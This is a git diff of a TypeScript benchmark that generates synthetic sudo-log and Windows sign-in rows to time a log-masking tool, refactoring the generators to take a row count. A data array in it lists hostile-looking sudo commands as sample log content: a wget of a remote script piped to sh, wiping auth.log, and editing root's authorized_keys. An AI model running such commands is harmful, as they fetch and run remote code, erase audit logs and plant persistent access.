@@ -7,6 +7,7 @@ import { Masker } from '../shared/masking/masker.ts';
 import { TableMasker } from '../shared/masking/table.ts';
 import { timeOf } from '../shared/tables/time.ts';
 import type { Bench } from './bench.ts';
+import { rowsOf } from './text-inputs.ts';
 
 const size = 100_000;
 const generator = (seed = 1) => (below: number): number => ((seed = (Math.imul(seed, 1_103_515_245) + 12_345) & 0x7fffffff) >>> 8) % below;
@@ -14,10 +15,10 @@ const users = ['ana', 'ben', 'cai', 'dov', 'eli', 'fay'];
 const commands = ['/usr/bin/apt-get update', '/bin/ls -la', '/bin/bash', '/usr/bin/wget http://192.0.2.9/a.sh | sh', '/bin/mv /var/log/auth.log /dev/null', '/usr/bin/id', '/usr/bin/vi /root/.ssh/authorized_keys'];
 
 /** Sudo lines: half of them commands, the rest sessions that open and close. */
-const sudo = () => {
+const ownSudo = (count: number) => {
   const next = generator();
   let time = Date.UTC(2024, 2, 4);
-  return Array.from({ length: size }, () => {
+  return Array.from({ length: count }, () => {
     time += next(100) === 0 ? 50 : 2000 + next(238_000);
     const TimeGenerated = new Date(time).toISOString();
     const Sudoer = users[next(users.length)]!;
@@ -27,15 +28,17 @@ const sudo = () => {
   });
 };
 
+const sudo = () => rowsOf('sudo_events', size, ownSudo) as ReturnType<typeof ownSudo>;
+
 /** Rows as a request brings them: parsed, so that no text is still in pieces. */
-const maskable = () => {
+const maskable = (count: number) => {
   const next = generator(3);
   const hex = (length: number): string => {
     let digits = '';
     for (let at = 0; at < length; at += 1) digits += next(16).toString(16);
     return digits;
   };
-  return Array.from({ length: size }, () => JSON.parse(JSON.stringify({
+  return Array.from({ length: count }, () => JSON.parse(JSON.stringify({
     TenantId: `${hex(8)}-${hex(4)}-4${hex(3)}-a${hex(3)}-${hex(12)}`, Computer: `ws${next(500)}.corp.example`, Account: `${users[next(users.length)]}@corp.example`,
     IpAddress: `${next(256)}.${next(256)}.${next(256)}.${next(256)}`, SubjectUserSid: `S-1-5-21-${next(1e9)}-${next(1e9)}-${next(1e9)}-${next(9999)}`, Location: ['London', 'Oslo'][next(2)], EventID: 4624,
   })) as Row);
@@ -44,7 +47,7 @@ const maskable = () => {
 const masking = (name: string, key: string | undefined): Bench => ({
   name, unit: 'rows', size, target: 20,
   prepare: () => {
-    const rows = maskable();
+    const rows = rowsOf('masking', size, maskable);
     return () => {
       const table = new TableMasker(new Masker(key), { columns: {}, usual: true, unmapped: 'keep' });
       let masked = 0;
